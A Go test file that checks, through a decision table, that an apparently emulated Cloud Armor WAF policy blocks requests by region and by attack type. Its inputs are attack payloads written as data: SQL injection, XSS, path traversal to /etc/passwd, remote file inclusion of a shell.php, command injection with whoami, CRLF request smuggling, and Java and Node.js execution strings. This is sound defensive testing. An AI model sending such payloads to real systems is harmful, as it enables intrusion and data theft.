package cloudarmor_test

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/coditect-ai/license-platform/armor/policy"
	"github.com/coditect-ai/license-platform/emulator/cloudarmor"
)

// TestTheCommittedDefaultsDecide is the decision table of the policy that empty
// settings make: request → rule and status.
func TestTheCommittedDefaultsDecide(t *testing.T) {
	t.Parallel()
	const (
		regions, sqli, xss, lfi, rfi, rce, methods, scanners = 1000, 3000, 3100, 3200, 3300, 3400, 3500, 3600
		protocol, php, session, java, generic                = 3700, 3800, 3900, 4000, 4100
		limit                                                = 10000
	)
	for name, row := range map[string]struct {
		request  cloudarmor.Request
		priority int
		status   int
		fires    string
	}{
		"a listed country passes, limited":                            {get(), limit, 0, ""},
		"a country that is not listed is refused":                     {get(in("KP")), regions, 403, ""},
		"a client of unknown region is refused":                       {get(in("")), regions, 403, ""},
		"UNION SELECT in the query":                                   {get(at("/v1/licenses", "q=1+UNION+SELECT+password+FROM+users")), sqli, 403, "owasp-crs-v042200-id942100-sqli"},
		"a listed country with SQL injection is refused all the same": {get(in("US"), at("/v1/licenses", "id=1'+OR+'1'='1'--+")), sqli, 403, ""},
		"SQL injection in a JSON value":                               {get(at("/v1/licenses/demo/acquire", ""), jsonBody(`{"machine":"x' UNION SELECT secret FROM keys -- "}`)), sqli, 403, ""},
		"SQL injection in a form":                                     {get(body("application/x-www-form-urlencoded", "text=1%27%20UNION%20SELECT%20a%20FROM%20b--")), sqli, 403, ""},
		"SQL injection in a cookie":                                   {get(with("Cookie", "session=1' UNION SELECT a FROM b -- ")), sqli, 403, ""},
		"a script in the query":                                       {get(at("/", "q=%3Cscript%3Ealert(1)%3C/script%3E")), xss, 403, "owasp-crs-v042200-id941100-xss"},
		"a script in a JSON value":                                    {get(jsonBody(`{"text":"<script>alert(document.cookie)</script>"}`)), xss, 403, ""},
		"a path that climbs to /etc/passwd":                           {get(at("/v1/licenses", "file=../../../../etc/passwd")), lfi, 403, ""},
		"a remote file":                                               {get(at("/", "page=http://198.51.100.7/shell.php?")), rfi, 403, ""},
		"a shell command":                                             {get(at("/", "host=127.0.0.1;+whoami")), rce, 403, ""},
		"PUT":                                                         {get(method("PUT")), methods, 403, "owasp-crs-v042200-id911100-methodenforcement"},
		"DELETE":                                                      {get(method("DELETE")), methods, 403, ""},
		"a scanner's user agent":                                      {get(with("User-Agent", "sqlmap/1.8#stable (https://sqlmap.org)")), scanners, 403, ""},
		"a smuggled request":                                          {get(at("/", "q=%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aSet-Cookie:%20a=b")), protocol, 403, ""},
		"PHP code":                                                    {get(at("/", "q=%3C?php+phpinfo();")), php, 403, ""},
		"a fixed session":                                             {get(at("/", "phpsessid=1"), with("Referer", "https://evil.example/")), session, 403, ""},
		"a Java class":                                                {get(at("/", "q=java.lang.Runtime")), java, 403, ""},
		"a Node.js require":                                           {get(at("/", "q=require('child_process').exec")), generic, 403, ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			decision := stand(t, policy.Settings{}).decide(t, row.request)
			assert.Equal(t, row.priority, decision.Priority(), "signatures %v", decision.Final.Signatures)
			assert.Equal(t, row.status, decision.StatusCode)
			assert.Equal(t, row.status == 0, decision.Allowed())
			if row.fires != "" {
				assert.Contains(t, decision.Final.Signatures, row.fires)
			}
			for _, step := range decision.Trace {
				assert.Empty(t, step.Error, "rule %d", step.Priority)
			}
		})
	}
}
